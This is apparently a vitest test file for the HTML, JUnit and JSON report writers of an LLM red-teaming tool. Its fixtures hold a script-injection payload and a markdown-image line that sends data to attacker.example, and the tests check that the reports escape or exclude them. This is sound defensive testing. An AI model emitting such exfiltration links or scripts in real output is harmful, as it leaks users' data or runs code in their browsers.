import { parse } from 'junit2json';
import { describe, expect, it } from 'vitest';
import { fixtureAttempt, fixtureReport } from '../testkit.js';
import { toHtmlReport, toJsonReport, toJunitXml, withoutAttempts } from './index.js';

const report = fixtureReport([
  fixtureAttempt('direct-injection/a/none', { outcome: 'blocked', error_code: 'prompt_injection_detected' }),
  fixtureAttempt('direct-injection/b/none', {
    outcome: 'succeeded',
    evidence: 'nonce',
    request_excerpt: 'say <script>alert("x")</script> & \u0001\u0008 done',
    response_excerpt: '![x](https://attacker.example/p?d=1) \ud800 </failure>]]>',
  }),
  fixtureAttempt('direct-injection/c/none', {
    outcome: 'false_positive',
    error_code: 'prompt_injection_detected',
  }),
  fixtureAttempt('direct-injection/d/none', { outcome: 'passed', latency_ms: 250 }),
  fixtureAttempt('output-handling/e/none', { category: 'output-handling', outcome: 'error', status: 503 }),
  fixtureAttempt('output-handling/f/none', { category: 'output-handling', outcome: 'resisted' }),
]);

describe('JSON report', () => {
  it('starts with the summary and carries every attempt; the stored copy drops them', () => {
    const parsed = JSON.parse(toJsonReport(report)) as Record<string, unknown>;
    expect(Object.keys(parsed)[0]).toBe('summary');
    expect(parsed.attempts).toHaveLength(6);
    const stored = withoutAttempts(report);
    expect(Object.keys(stored)[0]).toBe('summary');
    expect(stored).not.toHaveProperty('attempts');
    expect(stored.worst).toHaveLength(2);
  });
});

describe('JUnit report', () => {
  it('parses with a standard JUnit parser, one suite per category with the right counts', async () => {
    const xml = toJunitXml(report);
    const out = await parse(xml);
    if (!out || !('testsuite' in out)) throw new Error('expected <testsuites>');
    expect(out).toMatchObject({ name: 'keel redteam', tests: 6, failures: 2, errors: 1, time: 1.5 });
    const [direct, output] = out.testsuite ?? [];
    expect(direct).toMatchObject({ name: 'direct-injection', tests: 4, failures: 2, errors: 0, skipped: 0 });
    expect(direct?.time).toBeCloseTo(0.286, 3);
    expect(direct?.timestamp).toBe('2026-12-06T08:00:00');
    expect(output).toMatchObject({ name: 'output-handling', tests: 2, failures: 0, errors: 1 });
    const cases = direct?.testcase ?? [];
    expect(cases.map((c) => c.name)).toEqual([
      'direct-injection/a/none',
      'direct-injection/b/none',
      'direct-injection/c/none',
      'direct-injection/d/none',
    ]);
    expect(cases[1]?.failure?.[0]?.type).toBe('attack_succeeded');
    expect(cases[1]?.failure?.[0]?.inner).toContain('<script>alert("x")</script> & \\u0001\\u0008 done');
    expect(cases[1]?.failure?.[0]?.inner).toContain('\\ud800 </failure>]]>');
    expect(cases[2]?.failure?.[0]?.type).toBe('false_positive');
    expect(cases[0]?.failure).toBeUndefined();
    expect(output?.testcase?.[0]?.error?.[0]?.message).toBe('not judged: HTTP 503');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the characters the report must not carry.
    expect(xml).not.toMatch(/[\u0001\u0008]/);
  });
});

describe('HTML report', () => {
  const html = toHtmlReport(report);

  it('is one page that loads nothing from elsewhere', () => {
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/<(script|link|img|iframe)\b/i);
    expect(html).not.toMatch(/\s(src|href)=/i);
    expect(html).not.toMatch(/url\(|@import/);
  });

  it('escapes the excerpts and shows the tables and worst cases', () => {
    expect(html).toContain('say &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp;');
    expect(html).toContain('LLM01:2025 Prompt Injection');
    expect(html).toContain('LLM05:2025 Improper Output Handling');
    expect(html).toMatch(
      /<td class="t">none<\/td><td>4<\/td><td>1<\/td><td>1<\/td><td>1<\/td><td>2<\/td><td>1<\/td><td>1<\/td><td>33\.3%<\/td>/,
    );
    expect(html.indexOf('direct-injection/b/none')).toBeLessThan(html.indexOf('direct-injection/c/none'));
    expect(html).toContain('<b>33.3</b><span>score</span>');
  });
});
